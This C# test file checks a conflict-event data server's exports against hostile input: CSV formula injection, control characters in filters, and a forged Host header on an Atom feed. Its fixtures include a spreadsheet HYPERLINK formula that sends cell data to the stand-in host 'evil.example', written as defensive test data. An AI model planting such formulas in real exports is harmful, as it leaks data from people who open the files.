using System.Net;
using System.Net.Http.Headers;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using System.Xml.Linq;
using ConflictAtlas.Server.Tests.Support;
using ConflictAtlas.Storage.Accounts;

namespace ConflictAtlas.Server.Tests;

/// <summary>The exports under hostile or careless input: pages for callers who are not signed in, control characters in
/// the query, spreadsheet formulas in event text, and Atom feeds asked for without (or with a forged) Host header.</summary>
public sealed class ExportApiTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    private static readonly SeedEvent Injected = new(
        "2024-06-01", "Mali", 466, "+Gao", "@SUM(1+1)", 16.27, -0.04, "Riots", "Mob violence", "-Rioters (Mali)", "\tCivilians (Mali)", 1,
        Formula, "Hostile Wire");

    [Fact]
    public async Task Anonymous_exports_come_in_pages_with_a_link_to_the_next_and_a_token_gets_every_row()
    {
        await using var server = await ApiServer.StartAsync(SampleEvents.All, configure: o => o with { ExportPageRows = 3 });
        using var first = await server.Client.GetAsync(new Uri("api/events.csv?sort=event_date", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        Assert.Equal(4, Lines(await first.Content.ReadAsStringAsync()).Length); // header + 3 rows
        var next = Assert.Single(first.Headers.GetValues("Link"));
        Assert.Equal("</api/events.csv?sort=event_date&page=2>; rel=\"next\"", next);

        using var second = await server.Client.GetAsync(new Uri("api/events.csv?sort=event_date&page=2", UriKind.Relative));
        var rows = Lines(await second.Content.ReadAsStringAsync());
        Assert.Equal(2, rows.Length);
        Assert.Contains("Khartoum", rows[1], StringComparison.Ordinal);
        Assert.False(second.Headers.Contains("Link"));

        using var geo = JsonDocument.Parse(await server.Client.GetStringAsync(new Uri("api/events.geojson", UriKind.Relative)));
        Assert.Equal(3, geo.RootElement.GetProperty("features").GetArrayLength());

        await Accounts.AddAsync(server);
        var token = ApiTokens.Create();
        await server.Store.AddTokenAsync(Accounts.Reviewer, ApiTokens.Sha256(token), DateTimeOffset.UtcNow.AddDays(1));
        using var request = new HttpRequestMessage(HttpMethod.Get, "api/events.csv");
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", token);
        using var all = await server.Client.SendAsync(request);
        Assert.Equal(5, Lines(await all.Content.ReadAsStringAsync()).Length);
        Assert.False(all.Headers.Contains("Link"));
    }

    [Theory]
    [InlineData("q=%00", "q")]
    [InlineData("q=market%00", "q")]
    [InlineData("actor=JNIM%01", "actor")]
    [InlineData("admin1=%1B%5B31m", "admin1")]
    public async Task A_control_character_in_a_filter_is_a_400_problem_on_every_list_endpoint(string query, string parameter)
    {
        await using var server = await ApiServer.StartAsync(SampleEvents.All);
        foreach (var path in new[] { "api/events?", "api/stats?", "api/events.csv?", "api/events.geojson?", "api/events.atom?" })
        {
            using var response = await server.Client.GetAsync(new Uri(path + query, UriKind.Relative));
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
            using var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
            Assert.Contains("control characters", problem.RootElement.GetProperty("errors").GetProperty(parameter)[0].GetString(), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text()
    {
        await using var server = await ApiServer.StartAsync([Injected, SampleEvents.All[1]]);
        var csv = await server.Client.GetStringAsync(new Uri("api/events.csv?sort=-event_date", UriKind.Relative));
        var header = Lines(csv)[0].Split(',');
        var cells = Cells(Lines(csv)[1]);
        string Cell(string column) => cells[Array.IndexOf(header, column)];

        Assert.Equal("'" + Formula, Cell("notes"));
        Assert.Equal("'@SUM(1+1)", Cell("location"));
        Assert.Equal("'+Gao", Cell("admin1"));
        Assert.Equal("'-Rioters (Mali)", Cell("actor1"));
        Assert.Equal("'\tCivilians (Mali)", Cell("actor2"));
        Assert.Equal("-0.04", Cell("longitude"));
        Assert.All(Lines(csv).Skip(1).SelectMany(Cells), c => Assert.False(c.Length > 0 && c[0] is '=' or '+' or '@' or '\t' or '\r', c));
    }

    [Fact]
    public async Task The_atom_feed_takes_no_link_from_the_host_header_and_answers_a_request_without_one()
    {
        await using var server = await ApiServer.StartAsync(SampleEvents.All);
        using var forged = new HttpRequestMessage(HttpMethod.Get, "api/events.atom");
        forged.Headers.Host = "evil.example";
        using var response = await server.Client.SendAsync(forged);
        var xml = await response.Content.ReadAsStringAsync();
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.DoesNotContain("evil.example", xml, StringComparison.Ordinal);
        XNamespace atom = "http://www.w3.org/2005/Atom";
        var links = XDocument.Parse(xml).Descendants(atom + "link").Select(l => l.Attribute("href")!.Value).ToList();
        Assert.Contains("/api/events.atom", links);
        Assert.All(links, l => Assert.StartsWith("/", l, StringComparison.Ordinal));

        // HTTP/1.0 allows a request without Host.
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(server.BaseAddress.Host, server.BaseAddress.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes("GET /api/events.atom HTTP/1.0\r\n\r\n"));
        using var reader = new StreamReader(stream, Encoding.UTF8);
        var raw = await reader.ReadToEndAsync();
        Assert.StartsWith("HTTP/1.1 200", raw, StringComparison.Ordinal);
        Assert.Contains("<feed", raw, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_configured_public_address_makes_the_atom_links_absolute_under_it()
    {
        await using var server = await ApiServer.StartAsync(SampleEvents.All, configure: o => o with { PublicBaseUrl = ServerOptions.BaseUrl("https://atlas.example.org/data") });
        var xml = XDocument.Parse(await server.Client.GetStringAsync(new Uri("api/events.atom?country=Sudan", UriKind.Relative)));
        XNamespace atom = "http://www.w3.org/2005/Atom";
        var entry = Assert.Single(xml.Root!.Elements(atom + "entry"));
        Assert.StartsWith("https://atlas.example.org/data/event.html?id=", entry.Element(atom + "link")!.Attribute("href")!.Value, StringComparison.Ordinal);
        Assert.Equal("https://atlas.example.org/data/api/events.atom", xml.Root.Element(atom + "id")!.Value);
    }

    private static string[] Lines(string csv) => csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

    /// <summary>The cells of one RFC 4180 line (quoted cells unquoted).</summary>
    private static List<string> Cells(string line)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        cells.Add(cell.ToString());
        return cells;
    }
}
